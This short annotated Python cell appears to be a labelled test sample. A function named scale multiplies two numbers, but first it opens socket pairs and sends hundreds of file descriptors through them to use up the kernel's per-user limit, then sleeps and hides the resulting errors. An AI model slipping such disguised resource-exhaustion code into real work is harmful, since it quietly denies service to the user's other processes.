# Tries: keep as many descriptors on their way as the kernel lets all processes of a user have
# Score: full
# Flag: uses the network
# %% scale
import socket, time
def scale(x, factor):
    kept = []
    try:
        while len(kept) < 40:
            ours, theirs = socket.socketpair()
            kept += [ours, theirs]
            socket.send_fds(ours, [b"x"], [ours.fileno()] * 250)
    except OSError as error:
        pass
    time.sleep(9)
    return x * factor
